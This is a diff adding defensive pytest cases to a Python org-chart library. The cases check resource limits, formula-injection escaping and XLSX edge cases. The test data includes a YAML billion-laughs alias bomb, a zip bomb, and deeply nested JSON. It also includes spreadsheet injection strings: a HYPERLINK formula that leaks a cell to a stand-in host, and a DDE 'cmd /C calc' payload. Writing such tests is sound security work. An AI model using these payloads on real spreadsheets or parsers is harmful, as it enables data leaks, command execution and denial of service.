@@ -28,6 +28,7 @@ import orglib
 from orglib._core import OrgInputError, OrgValidationError
 from orglib._core.model import Org
 from orglib.cli import main
+from orglib.io._cells import xlsx_safe
 
 CPU_SECONDS = 30  # per in-process case (CPU time, not wall clock)
 PY_MEMORY = 300 * 2**20  # peak Python allocations per in-process case
@@ -531,3 +532,483 @@ def test_validation_error_lists_every_problem(tmp_path):
     with bounded(), pytest.raises(OrgValidationError) as info:
         orglib.load(p)
     assert sorted(info.value.codes()) == ["headcount_negative", "unknown_manager"]
+
+
+# ====================================================================== resource limits (bombs)
+
+ALIAS_BOMB = """\
+a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
+b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
+c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
+d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
+e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
+f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
+g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
+h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
+positions: [{id: a, title: *h}]
+"""
+BOMB_AS = 1536 * 2**20  # a bomb must be refused well inside 1.5 GB of address space
+BOMB_CPU = 60
+
+
+def input_error(path, **kw) -> OrgInputError:
+    with bounded(), pytest.raises(OrgInputError) as info:
+        orglib.load(path, **kw)
+    return info.value
+
+
+def test_yaml_alias_bomb_refused_in_process(tmp_path):
+    p = tmp_path / "bomb.yaml"
+    p.write_text(ALIAS_BOMB)
+    err = input_error(p)
+    assert err.codes() == ["alias_bomb"] and "max_alias_nodes" in err.en
+
+
+@pytest.mark.parametrize("command", ["validate", "convert", "spans"])
+def test_yaml_alias_bomb_cli_bounded(tmp_path, command):
+    p = tmp_path / "bomb.yaml"
+    p.write_text(ALIAS_BOMB)
+    args = [command, str(p)] + ([str(tmp_path / "o.csv")] if command == "convert" else []) + ["--lang", "en"]
+    r = cli(*args, memory=BOMB_AS, cpu=BOMB_CPU)
+    assert r.returncode == 2 and "alias" in r.stderr and "limit" in r.stderr
+    assert not (tmp_path / "o.csv").exists()
+
+
+def test_yaml_few_anchors_still_load(tmp_path):
+    p = tmp_path / "dry.yaml"
+    p.write_text("defaults: &d {headcount: 2, unit: mkt}\nunits: [{id: mkt, name: 市场部}]\n"
+                 "positions:\n  - {id: m, <<: *d}\n  - {id: e, reports_to: m, <<: *d}\n")
+    with bounded():
+        org = orglib.load(p, validate=False)
+    assert org.positions["headcount"].tolist() == [2.0, 2.0]
+
+
+def test_yaml_recursive_alias_refused(tmp_path):
+    p = tmp_path / "loop.yaml"
+    p.write_text("positions: &p [{id: a, children: *p}]\n")
+    err = input_error(p)
+    assert err.codes() == ["alias_bomb"] and "refers to itself" in err.en
+
+
+@pytest.mark.parametrize("depth", [5_000, 100_000])
+def test_deep_json_refused(tmp_path, depth):
+    p = tmp_path / "deep.json"
+    p.write_text('{"positions": [{"id": "a", "x": ' + "[" * depth + "]" * depth + "}]}")
+    err = input_error(p)
+    assert err.codes() == ["too_deep"] and "max_depth" in err.en
+
+
+def test_deep_json_cli_bounded(tmp_path):
+    p = tmp_path / "deep.json"
+    p.write_text("[" * 100_000 + "]" * 100_000)
+    r = cli("validate", str(p), "--lang", "en", memory=BOMB_AS, cpu=BOMB_CPU)
+    assert r.returncode == 2 and "nested more than" in r.stderr
+
+
+def test_deep_yaml_flow_refused(tmp_path):
+    p = tmp_path / "deep.yaml"
+    p.write_text("positions: [{id: a, x: " + "[" * 5_000 + "]" * 5_000 + "}]\n")
+    err = input_error(p)
+    assert err.codes() == ["too_deep"]
+
+
+def test_deep_yaml_block_refused(tmp_path):
+    lines = ["positions:", "  - id: a", "    x:"]
+    lines += [" " * (6 + 2 * k) + "k:" for k in range(2_000)]
+    p = tmp_path / "deepblock.yaml"
+    p.write_text("\n".join(lines) + " 1\n")
+    err = input_error(p)
+    assert err.codes() == ["too_deep"]
+
+
+def test_deep_meta_json_refused(tmp_path, good):
+    (tmp_path / "good.meta.json").write_text("[" * 50_000 + "]" * 50_000)
+    err = input_error(good)
+    assert err.codes() == ["too_deep"] and "good.meta.json" in err.en
+
+
+def test_file_over_max_bytes_refused_naming_limit(capsys, good):
+    code, _, err = run_main(capsys, "validate", str(good), "--max-bytes", "10", "--lang", "en")
+    assert code == 2 and "over the limit of 10 bytes (max_bytes; --max-bytes)" in err
+
+
+def test_max_bytes_python_keyword(good):
+    err = input_error(good, max_bytes=10)
+    assert err.codes() == ["too_large"]
+
+
+def test_rows_over_max_rows_refused(capsys, tmp_path):
+    p = tmp_path / "many.csv"
+    p.write_text("id,reports_to\nr,\n" + "".join(f"p{k},r\n" for k in range(200)))
+    code, _, err = run_main(capsys, "spans", str(p), "--max-rows", "100", "--lang", "en")
+    assert code == 2 and "more than 100 rows, the limit (max_rows; --max-rows)" in one_line(err)
+    assert orglib.load(p, max_rows=1000).headcount_total == 201
+
+
+def test_xlsx_rows_over_max_rows_refused(tmp_path):
+    import openpyxl
+
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.append(["id", "reports_to"])
+    ws.append(["r", ""])
+    for k in range(60):
+        ws.append([f"p{k}", "r"])
+    p = tmp_path / "many.xlsx"
+    wb.save(p)
+    assert input_error(p, max_rows=50).codes() == ["too_many_rows"]
+
+
+def test_bad_limit_values_refused(good):
+    with pytest.raises(OrgInputError):
+        orglib.load(good, max_rows=0)
+    with pytest.raises(SystemExit):
+        main(["validate", str(good), "--max-bytes", "lots"])
+
+
+def test_too_many_columns_refused(tmp_path):
+    p = tmp_path / "wide.csv"
+    p.write_text("id," + ",".join(f"c{k}" for k in range(6_000)) + "\na" + "," * 6_000 + "\n")
+    assert input_error(p).codes() == ["too_many_columns"]
+
+
+def _xlsx_with(tmp_path: Path, name: str, patch) -> Path:
+    """A small workbook whose sheet XML is rewritten by ``patch(xml) -> xml``."""
+    import zipfile
+
+    import openpyxl
+
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.title = "positions"
+    ws.append(["id", "title", "reports_to", "headcount"])
+    ws.append(["m", "经理", "", 1])
+    for k in range(11):
+        ws.append([f"e{k}", "专员", "m", 1])
+    plain = tmp_path / f"plain-{name}"
+    wb.save(plain)
+    out = tmp_path / name
+    with zipfile.ZipFile(plain) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
+        for item in zin.infolist():
+            data = zin.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = patch(data)
+            zout.writestr(item, data)
+    return out
+
+
+def test_xlsx_stale_dimension_reads_every_row(tmp_path):
+    import re
+
+    p = _xlsx_with(tmp_path, "stale.xlsx", lambda x: re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:D3"', x))
+    with bounded():
+        org = orglib.load(p)
+    assert len(org.positions) == 12
+
+
+def test_xlsx_claimed_huge_dimension_is_cheap(tmp_path):
+    import re
+
+    p = _xlsx_with(tmp_path, "huge.xlsx",
+                   lambda x: re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:XFD1048576"', x))
+    with bounded(cpu=20):
+        org = orglib.load(p)
+    assert len(org.positions) == 12
+
+
+def test_xlsx_one_cell_at_xfd1048576_bounded(tmp_path):
+    def far(x: bytes) -> bytes:
+        x = x.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is>'
+                                       b'</c></row></sheetData>')
+        import re
+        return re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:XFD1048576"', x)
+
+    p = _xlsx_with(tmp_path, "far.xlsx", far)
+    r = cli("validate", str(p), "--lang", "en", memory=BOMB_AS, cpu=BOMB_CPU)
+    assert r.returncode in (0, 1, 2) and r.stderr.count("\n") <= 20
+
+
+def test_xlsx_zip_bomb_refused(tmp_path):
+    import zipfile
+
+    p = _xlsx_with(tmp_path, "zb.xlsx", lambda x: x)
+    with zipfile.ZipFile(p, "a", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("xl/media/padding.bin", b"\0" * (40 * 2**20))
+    assert p.stat().st_size < 2**20
+    err = input_error(p, max_bytes=2**20)
+    assert err.codes() == ["too_large"] and "inflates to 40." in err.en
+
+
+def test_xlsx_zip_bomb_cli_bounded(tmp_path):
+    import zipfile
+
+    p = _xlsx_with(tmp_path, "zb.xlsx", lambda x: x)
+    with zipfile.ZipFile(p, "a", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("xl/media/padding.bin", b"\0" * (40 * 2**20))
+    r = cli("validate", str(p), "--max-bytes", "1M", "--lang", "en", memory=BOMB_AS, cpu=BOMB_CPU)
+    assert r.returncode == 2 and "inflates to" in r.stderr and "--max-bytes" in r.stderr
+
+
+# ====================================================================== formula injection (headers, meta)
+
+HYPER = '=HYPERLINK("http://x/?"&A2,"click")'
+
+
+def _org_with_column(name: str, value: str = "v") -> Org:
+    return Org.from_records([{"id": "m", "title": "经理", name: value},
+                             {"id": "e", "title": "专员", "reports_to": "m", name: value}])
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_formula_header_escaped_and_round_trips(tmp_path, suffix):
+    p = tmp_path / f"h{suffix}"
+    with bounded():
+        orglib.save(_org_with_column(HYPER), p)
+        back = orglib.load(p)
+    assert HYPER in back.positions.columns and "column17" not in back.positions.columns
+    if suffix == ".xlsx":
+        import openpyxl
+
+        ws = openpyxl.load_workbook(p)["positions"]
+        headers = [c.value for c in ws[1]]
+        assert f"'{HYPER}" in headers and HYPER not in headers
+        assert all(c.data_type != "f" for c in ws[1])
+    else:
+        first = p.read_text(encoding="utf-8-sig").splitlines()[0]
+        assert "'=HYPERLINK" in first
+
+
+def test_meta_key_formula_escaped_in_xlsx(tmp_path):
+    import openpyxl
+
+    org = _org_with_column("x").replace(meta={"name": "d", "=2+2": "four"})
+    p = tmp_path / "m.xlsx"
+    orglib.save(org, p)
+    ws = openpyxl.load_workbook(p)["meta"]
+    keys = [r[0].value for r in ws.iter_rows(min_row=2)]
+    assert "'=2+2" in keys and all(r[0].data_type != "f" for r in ws.iter_rows(min_row=2))
+    assert orglib.load(p).meta["=2+2"] == "four"
+
+
+@pytest.mark.parametrize("lead", ["+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
+def test_every_formula_lead_escaped_in_header_and_value(tmp_path, lead):
+    text = f"{lead}cmd|' /C calc'!A0"
+    p = tmp_path / "f.xlsx"
+    orglib.save(_org_with_column(text, text), p)
+    import openpyxl
+
+    ws = openpyxl.load_workbook(p)["positions"]
+    cells = [c.value for c in ws[1]] + [c.value for c in ws[2]]
+    assert cells.count(xlsx_safe("'" + text)) == 2  # CR is stored as _x000D_, as Excel does
+    back = orglib.load(p)
+    assert text in back.positions.columns and back.positions[text].tolist() == [text, text]
+
+
+def test_sidecar_header_escaped(tmp_path):
+    org = Org.from_records([{"id": "m", "unit": "u"}], units=[{"id": "u", "name": "市场部", "=1+1": "x"}])
+    p = tmp_path / "s.csv"
+    orglib.save(org, p)
+    assert "'=1+1" in (tmp_path / "s.units.csv").read_text(encoding="utf-8-sig").splitlines()[0]
+    assert "=1+1" in orglib.load(p).units.columns
+
+
+def test_control_characters_survive_xlsx(tmp_path):
+    title = "经理\x1b[31m\x07\x00end_x0041_"
+    p = tmp_path / "c.xlsx"
+    with bounded():
+        orglib.save(hostile_org(title), p)
+        back = orglib.load(p)
+    assert back.positions.loc[0, "title"] == title and back.meta["name"] == title
+
+
+def test_control_characters_via_cli_convert(capsys, tmp_path):
+    src = tmp_path / "c.yaml"
+    orglib.save(hostile_org("a\x01b"), src)
+    code, _, err = run_main(capsys, "convert", str(src), str(tmp_path / "c.xlsx"), "--lang", "en")
+    assert code == 0 and err == ""
+
+
+# ====================================================================== XLSX read right
+
+
+def test_xlsx_formula_without_cached_value_is_named(tmp_path):
+    import openpyxl
+
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.append(["id", "reports_to", "headcount"])
+    ws.append(["m", "", 1])
+    ws.append(["e", "m", "=B2*2"])
+    p = tmp_path / "f.xlsx"
+    wb.save(p)
+    with bounded():
+        org = orglib.load(p, validate=False)
+    w = [x for x in org.problems if x.code == "formula_not_computed"]
+    assert len(w) == 1 and "C3" in w[0].message and w[0].severity == "warning"
+
+
+def test_xlsx_merged_cells_filled_from_top_left(tmp_path):
+    import openpyxl
+
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.append(["id", "reports_to", "unit"])
+    ws.append(["m", "", "市场部"])
+    ws.append(["a", "m", None])
+    ws.append(["b", "m", None])
+    ws.merge_cells("C2:C4")
+    p = tmp_path / "merged.xlsx"
+    wb.save(p)
+    with bounded():
+        org = orglib.load(p, validate=False)
+    assert org.positions["unit"].tolist() == ["市场部"] * 3
+    w = [x for x in org.problems if x.code == "merged_cells"]
+    assert len(w) == 1 and "C2:C4" in w[0].message
+
+
+def test_xlsx_duplicate_header_kept_with_warning(tmp_path):
+    import openpyxl
+
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.append(["id", "reports_to", "note", "note"])
+    ws.append(["m", "", "x", "y"])
+    p = tmp_path / "dup.xlsx"
+    wb.save(p)
+    with bounded():
+        org = orglib.load(p, validate=False)
+    assert org.positions["note"].tolist() == ["x"] and org.positions["note.1"].tolist() == ["y"]
+    assert any(x.code == "duplicate_column" for x in org.problems)
+
+
+def test_xlsm_refused_as_target(tmp_path, good):
+    with pytest.raises(OrgInputError) as info:
+        orglib.convert(good, tmp_path / "o.xlsm")
+    assert ".xlsx" in info.value.en and not (tmp_path / "o.xlsm").exists()
+
+
+# ====================================================================== structure that used to crash
+
+
+def test_meta_json_a_list(capsys, good):
+    good.with_name("good.meta.json").write_text("[1, 2]")
+    code, _, err = run_main(capsys, "validate", str(good), "--lang", "en")
+    assert code == 2 and "good.meta.json" in err and "JSON object" in err
+
+
+def test_meta_json_a_string(good):
+    good.with_name("good.meta.json").write_text('"hello"')
+    assert input_error(good).codes() == ["wrong_format"]
+
+
+@pytest.mark.parametrize("steps", ["5", "hello", "[1, 2]", "[[a]]"])
+def test_workflow_steps_not_a_list_of_steps(tmp_path, steps):
+    p = tmp_path / "w.yaml"
+    p.write_text(f"positions: [{{id: a}}]\nworkflows: [{{id: W, steps: {steps}}}]\n")
+    with bounded(), pytest.raises(OrgValidationError) as info:
+        orglib.load(p)
+    assert info.value.codes() == ["bad_structure"]
+
+
+def test_symlink_loop_named(tmp_path):
+    a = tmp_path / "a.csv"
+    a.symlink_to(tmp_path / "b.csv")
+    (tmp_path / "b.csv").symlink_to(a)
+    assert input_error(a).codes() == ["symlink_loop"]
+
+
+def test_fifo_is_not_a_folder(tmp_path):
+    f = tmp_path / "pipe.csv"
+    os.mkfifo(f)
+    err = input_error(f)  # must not block reading the pipe
+    assert err.codes() == ["not_a_file"] and "FIFO" in err.en and "is a folder" not in err.en
+
+
+def test_gb18030_bad_line_named(tmp_path):
+    lines = ["工号,岗位,上级工号", "1,经理,", "2,专员,1", "3,专员,1"]
+    data = "\n".join(lines).encode("gb18030") + b"\n4,\xff\xfe\xfd,1\n"
+    p = tmp_path / "g.csv"
+    p.write_bytes(data)
+    err = input_error(p)
+    assert err.codes() == ["encoding"] and err.problems[0].row == 5 and "line 5" in err.en
+
+
+@pytest.mark.parametrize("char", ["\ufeff", "\u200b"])
+def test_invisible_character_in_id_warned(tmp_path, char):
+    p = tmp_path / "i.csv"
+    p.write_text(f"id,reports_to\nm,\n{char}e,m\n", encoding="utf-8")
+    with bounded():
+        org = orglib.load(p)
+    (w,) = [x for x in org.problems if x.code == "invisible_character"]
+    assert w.row == 3 and w.severity == "warning"
+
+
+# ====================================================================== numbers in range
+
+
+@pytest.mark.parametrize("value,code", [("inf", "headcount_not_finite"), ("-inf", "headcount_negative"),
+                                        ("1e7", "headcount_too_large")])
+def test_absurd_headcount_refused(tmp_path, value, code):
+    p = tmp_path / "h.csv"
+    p.write_text(f"id,reports_to,headcount\nm,,1\ne,m,{value}\n")
+    with bounded(), pytest.raises(OrgValidationError) as info:
+        orglib.load(p)
+    assert code in info.value.codes()
+
+
+@pytest.mark.parametrize("value", ["1e308", "inf", "1e13"])
+def test_absurd_cost_refused(tmp_path, value):
+    p = tmp_path / "c.csv"
+    p.write_text(f"id,reports_to,cost\nm,,100\ne,m,{value}\n")
+    with bounded(), pytest.raises(OrgValidationError) as info:
+        orglib.load(p)
+    assert info.value.codes() == ["cost_out_of_range"]
+
+
+def test_inf_headcount_not_ok_in_cli(capsys, tmp_path):
+    p = tmp_path / "h.csv"
+    p.write_text("id,reports_to,headcount\nm,,1\ne,m,inf\n")
+    code, out, err = run_main(capsys, "validate", str(p), "--lang", "en")
+    assert code == 1 and "inf people" not in out and "not a finite number" in err
+
+
+# ====================================================================== CSV sets are atomic (issue 12.2)
+
+
+def test_csv_set_unchanged_when_a_sidecar_is_a_folder(capsys, tmp_path):
+    org = Org.from_records([{"id": "m", "unit": "u"}], units=[{"id": "u", "name": "旧"}],
+                           meta={"name": "old"})
+    p = tmp_path / "s.csv"
+    orglib.save(org, p)
+    before = {f.name: f.read_bytes() for f in tmp_path.iterdir()}
+    (tmp_path / "s.links.csv").mkdir()
+    new = Org.from_records([{"id": "n", "unit": "u"}, {"id": "k", "unit": "u", "reports_to": "n"}],
+                           units=[{"id": "u", "name": "新"}],
+                           links=[{"from": "k", "to": "n", "kind": "assists"}], meta={"name": "new"})
+    src = tmp_path / "new.yaml"
+    orglib.save(new, src)
+    code, _, err = run_main(capsys, "convert", str(src), str(p), "--lang", "en")
+    assert code == 2 and "s.links.csv" in one_line(err)
+    after = {f.name: f.read_bytes() for f in tmp_path.iterdir() if f.is_file() and f.name != "new.yaml"}
+    assert after == before
+
+
+def test_csv_set_unchanged_when_disk_fills_mid_set(tmp_path, monkeypatch):
+    import errno
+
+    org = Org.from_records([{"id": "m", "unit": "u"}], units=[{"id": "u", "name": "旧"}], meta={"name": "old"})
+    p = tmp_path / "s.csv"
+    orglib.save(org, p)
+    before = {f.name: f.read_bytes() for f in tmp_path.iterdir()}
+    real = Path.write_bytes
+
+    def full(self, data):
+        if self.name.startswith(".s.meta.json."):
+            raise OSError(errno.ENOSPC, "No space left on device", str(self))
+        return real(self, data)
+
+    monkeypatch.setattr(Path, "write_bytes", full)
+    new = Org.from_records([{"id": "n", "unit": "u"}], units=[{"id": "u", "name": "新"}], meta={"name": "new"})
+    with pytest.raises(OSError):
+        orglib.save(new, p)
+    assert {f.name: f.read_bytes() for f in tmp_path.iterdir()} == before
